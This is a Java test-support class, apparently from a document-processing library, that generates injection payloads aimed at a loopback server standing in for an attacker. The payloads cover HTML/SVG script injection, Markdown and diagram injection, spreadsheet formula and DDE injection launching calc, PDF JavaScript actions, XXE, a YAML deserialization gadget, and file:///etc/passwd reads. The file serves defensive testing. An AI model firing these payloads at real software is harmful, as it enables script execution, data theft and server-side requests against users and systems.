package io.digitalworker.document.active;

import java.util.ArrayList;
import java.util.List;

/**
 * Texts that would do something if any program took them for more than text: ask a server on loopback,
 * run a script, compute a formula, open an address. The address of the server stands in for the
 * attacker's.
 */
final class Payloads {
    private Payloads() {}

    /** @param server such as {@code http://127.0.0.1:4711} */
    static List<String> asking(String server) {
        List<String> all = new ArrayList<>();
        all.addAll(markup(server));
        all.addAll(markdown(server));
        all.addAll(diagrams(server));
        all.addAll(formulas(server));
        all.addAll(others(server));
        return all;
    }

    private static List<String> markup(String s) {
        String ask = "fetch('" + s + "/script')";
        return List.of(
                "<script>" + ask + "</script>",
                "<script src=" + s + "/src.js></script>",
                "<ScRiPt/x>" + ask + "</ScRiPt>",
                "</script><script>" + ask + "</script>",
                "</style><script>" + ask + "</script>",
                "</title><script>" + ask + "</script>",
                "--><script>" + ask + "</script>",
                "]]><script>" + ask + "</script>",
                "\"><script>" + ask + "</script>",
                "'><img src=" + s + "/quote.png>",
                "<img src=x onerror=\"" + ask + "\">",
                "<img src=\"" + s + "/img.png\">",
                "<svg onload=\"" + ask + "\">",
                "<svg><script>" + ask + "</script></svg>",
                "<svg><foreignObject><iframe src=" + s + "/fo></iframe></foreignObject></svg>",
                "<svg><image href=\""
                        + s
                        + "/image.png\"/><use href=\""
                        + s
                        + "/use.svg#a\"/></svg>",
                "<iframe src=" + s + "/frame></iframe>",
                "<iframe srcdoc=\"<script>" + ask + "</script>\"></iframe>",
                "<object data=" + s + "/object></object><embed src=" + s + "/embed>",
                "<link rel=stylesheet href=" + s + "/style.css>",
                "<style>@import url("
                        + s
                        + "/import.css);*{background:url("
                        + s
                        + "/bg.png)}</style>",
                "<base href=" + s + "/base/>",
                "<meta http-equiv=refresh content=\"0;url=" + s + "/refresh\">",
                "<form action=" + s + "/form><input autofocus onfocus=\"" + ask + "\">",
                "<video src=" + s + "/v.mp4 poster=" + s + "/p.png autoplay></video>",
                "<details open ontoggle=\"" + ask + "\">x</details>",
                "<math><mtext><mglyph><style><img src onerror=\"" + ask + "\">",
                "<a href=\"javascript:" + ask + "\">x</a>",
                "<body onload=\"" + ask + "\">",
                "<!--<img src=" + s + "/comment.png>-->",
                "&lt;script&gt;" + ask + "&lt;/script&gt;",
                "&#60;script&#62;" + ask + "&#60;/script&#62;",
                "{{constructor.constructor(\"" + ask + "\")()}} ${" + ask + "} <%= " + ask + " %>",
                "{{body}} {{style}} {{title}}");
    }

    private static List<String> markdown(String s) {
        return List.of(
                "![x](" + s + "/md.png)",
                "![x][ref] \n\n[ref]: " + s + "/ref.png",
                "[x](javascript:alert(1))",
                "[x](data:text/html;base64,PHNjcmlwdD4=)",
                "[x](vbscript:msgbox(1)) [y](file:///etc/passwd)",
                "[x]( &#106;avascript:alert(1))",
                "<javascript:alert(1)> <" + s + "/auto>",
                "` `` ```\n```\n<img src=" + s + "/fence.png>\n```",
                "\n\n    x\n\n<img src=" + s + "/block.png>\n\n",
                "| a | b |\n|---|---|\n| <img src=" + s + "/cell.png> | ![](" + s + "/cell2.png) |",
                "[^1]: <img src=" + s + "/note.png>",
                "\\<img src=" + s + "/back.png\\> \\![x](" + s + "/back2.png)");
    }

    private static List<String> diagrams(String s) {
        return List.of(
                "%%{init: {'securityLevel':'loose','themeCSS':'@import url(" + s + "/mm.css)'}}%%",
                "x\nclick n0 \"javascript:alert(1)\"\nclick n0 href \"" + s + "/click\"",
                "\"]; click a call " + "alert(1); b[\"",
                "```\n```mermaid\nflowchart LR\na[\"<img src=" + s + "/mm.png>\"]\n```",
                "x\n!include " + s + "/include.puml\n!includeurl " + s + "/url.puml",
                "x\n@enduml\n@startuml\n!import " + s + "/import.zip\n@enduml",
                "<img:" + s + "/puml.png> [[" + s + "/link label]] [[javascript:alert(1)]]",
                "%load_json(\"" + s + "/puml.json\") <$sprite> !theme x from " + s);
    }

    private static List<String> formulas(String s) {
        return List.of(
                "=HYPERLINK(\"" + s + "/csv\",\"x\")",
                "=cmd|'/C calc'!A0",
                "+IMPORTXML(\"" + s + "/xml\",\"//a\")",
                "-2+3+WEBSERVICE(\"" + s + "/ws\")",
                "@SUM(1+1)*cmd|'/C calc'!A0",
                "\t=1+1",
                "\r=1+1",
                " \u00a0=1+1",
                "x\",\"=1+1\",\"",
                "x\n=1+1",
                "\uff1d1+1",
                "%0A=DDE(\"cmd\";\"/C calc\";\"a\")");
    }

    private static List<String> others(String s) {
        return List.of(
                ") Tj ET /JS (app.alert(1)) /S /JavaScript /OpenAction (",
                "endstream endobj 9 0 obj << /S /URI /URI (" + s + "/pdf) >> endobj",
                "<< /Type /Action /S /Launch /F (calc.exe) >>",
                "<!DOCTYPE a [<!ENTITY x SYSTEM \"" + s + "/entity\">]><a>&x;</a>",
                "<?xml-stylesheet href=\"" + s + "/xsl\"?><xi:include href=\"" + s + "/xi\"/>",
                "!!javax.script.ScriptEngineManager [!!java.net.URL [\"" + s + "/yaml\"]]",
                "&anchor *anchor {$ref: \"" + s + "/ref.json\"}",
                "\u202e<img src=" + s + "/rtl.png>\u202c",
                "\u0000<img src=" + s + "/nul.png>",
                "file:///etc/passwd \\\\127.0.0.1\\share jar:" + s + "/a!/b");
    }
}
